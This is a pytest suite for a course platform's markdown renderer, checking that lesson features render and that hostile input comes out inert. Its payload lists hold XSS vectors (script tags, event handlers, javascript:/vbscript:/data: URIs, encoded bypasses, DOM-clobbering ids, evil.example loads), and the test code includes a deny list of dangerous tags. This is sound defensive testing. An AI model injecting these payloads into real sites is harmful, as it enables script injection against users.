"""The markdown pipeline: every feature trainers use, and hostile input made inert."""

from __future__ import annotations

import re

import pytest

from course.content.markdown import RenderJob, render_lesson, sanitise

ASSETS = frozenset({"01-one/chart.svg"})
LESSONS = {"01-one/01-a.md": "a", "01-one/02-b.md": "b"}


def render(body: str):
    return render_lesson(RenderJob("lessons/c/01-one/01-a.md", "01-one/01-a.md", body, 5,
                                   LESSONS, ASSETS))


def html_of(body: str) -> str:
    return render(body).html


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for bad in ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<style", "<link",
                "<meta", "<base", "<svg", "<math", "javascript:", "vbscript:", "data:",
                "style=", "srcdoc", "formaction"):
        assert bad not in lowered, f"{bad!r} survived in {html}"
    assert not re.search(r"\son[a-z]+\s*=", lowered), html
    for src in re.findall(r'src="([^"]*)"', html):
        assert src.startswith("../files/"), src
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"^(https?:|mailto:|#s-|\.\./files/|[a-z0-9-]+(#|$))", href), href
    for ident in re.findall(r'\sid="([^"]*)"', html):
        assert ident.startswith("s-"), ident


def test_features_trainers_use() -> None:
    out = render("""Intro with a [link to b](02-b.md#steps) and a footnote.[^n]

## First steps {: #steps }

!!! tip "Try this"
    Do it today.

!!! exercise "Checklist"
    - [ ] one

| Model | Who |
|---|---|
| Channel | Marketing |

Term
: Its meaning

```python
print("hi")
```

*[CRM]: Customer relationship management

CRM matters. ![chart](chart.svg)

[^n]: The note.
""")
    html = out.html
    assert out.problems == []
    assert '<a href="b#s-steps"' in html
    assert '<h2 id="s-steps">First steps</h2>' in html
    assert '<div class="admonition tip" role="note">' in html
    assert '<div class="admonition exercise" role="note">' in html
    assert "<table>" in html and "<th>Model</th>" in html
    assert "<dt>Term</dt>" in html and "<dd>Its meaning</dd>" in html
    assert '<div class="highlight"><pre>' in html and '<span class="nb">print</span>' in html
    assert '<abbr title="Customer relationship management">CRM</abbr>' in html
    assert '<img alt="chart" src="../files/01-one/chart.svg">' in html
    assert 'href="#s-fn:n"' in html and 'id="s-fn:n"' in html
    assert '<a href="#s-steps"' in out.toc
    assert_inert(html)


RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<form action=\"https://evil.example\"><input name=p><button formaction=x>Go</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=//evil.example>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"javascript:alert(1)\">x</a><a href=\"JaVaScRiPt:alert(1)\">y</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">e</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab</a><a href=\" javascript:alert(1)\">sp</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"VBScript&colon;msgbox(1)\">v2</a>",
    "<img src=\"http://tracker.example/p.png\"><img src=\"../../../../etc/passwd\">",
    "<div id=\"main\">clobber</div><a name=\"course-nav\" id=\"skip-link\">x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
]


@pytest.mark.parametrize("payload", RAW_HTML)
def test_raw_html_comes_out_inert(payload: str) -> None:
    assert_inert(html_of(f"Text before.\n\n{payload}\n\nText after.\n"))


MARKDOWN_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "![x](https://evil.example/x.png)",
    "![x](../../secret.png)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
]


@pytest.mark.parametrize("payload", MARKDOWN_LINKS)
def test_markdown_links_come_out_inert(payload: str) -> None:
    assert_inert(html_of(f"Intro.\n\n{payload}\n"))


ATTR_LISTS = [
    "## Heading {: onclick=\"alert(1)\" }",
    "## Heading {: style=\"display:none\" }",
    "[x](02-b.md){: href=\"javascript:alert(1)\" }",
    "[x](02-b.md){: onmouseover=\"alert(1)\" }",
    "![x](chart.svg){: src=\"javascript:alert(1)\" onerror=\"alert(1)\" }",
    "Paragraph\n{: id=\"main\" }",
    "Paragraph\n{: #skip-link .x }",
]


@pytest.mark.parametrize("payload", ATTR_LISTS)
def test_attribute_lists_cannot_add_handlers_styles_or_bad_urls(payload: str) -> None:
    assert_inert(html_of(f"Intro.\n\n{payload}\n"))


def test_generated_ids_cannot_clobber_the_page() -> None:
    html = html_of("## main\n\n## course-nav\n\nText[^skip-link]\n\n[^skip-link]: n\n")
    ids = re.findall(r'\sid="([^"]*)"', html)
    assert ids and all(i.startswith("s-") for i in ids)
    assert 'id="main"' not in html


def test_bad_links_are_reported_with_their_line() -> None:
    out = render("Intro.\n\n[gone](03-gone.md)\n\n![pic](https://evil.example/x.png)\n")
    assert out.problems == [
        (7, "broken link '03-gone.md': no lesson or file there"),
        (9, "image 'https://evil.example/x.png': images must be files next to the lessons"),
    ]


def test_checklists_render_as_task_items() -> None:
    html = html_of("- [ ] first step\n- [x] done step\n- plain\n")
    assert '<li class="task">first step</li>' in html
    assert '<li class="task done">done step</li>' in html
    assert "<li>plain</li>" in html and "[ ]" not in html


def test_safe_external_links_stay() -> None:
    html = html_of("[site](https://example.com/a?b=1) [mail](mailto:team@example.com)\n")
    assert 'href="https://example.com/a?b=1"' in html
    assert 'href="mailto:team@example.com"' in html
    assert 'rel="noopener noreferrer"' in html


def test_sanitise_is_idempotent() -> None:
    html = html_of("## A\n\n[b](02-b.md) ![c](chart.svg)\n")
    assert sanitise(html) == html


def test_the_time_budget_covers_rendering_not_the_renderer_starting() -> None:
    """A lesson after a runaway one renders normally: the fresh worker's start-up is free."""
    from course.content.renderpool import _stop_worker, render_with_budget

    _stop_worker()  # the next job starts a cold worker
    slow = "[" * 12000 + "x" + "](a)" * 12000
    jobs = [RenderJob(f"{n}.md", f"{n}.md", body, 1, {}, frozenset())
            for n, body in (("cold", "Fine."), ("slow", slow), ("after", "Also fine."))]
    cold, runaway, after = render_with_budget(jobs, budget_seconds=0.5)
    assert cold.problems == [] and after.problems == []
    assert "longer than 0.5 s" in runaway.problems[0][1]
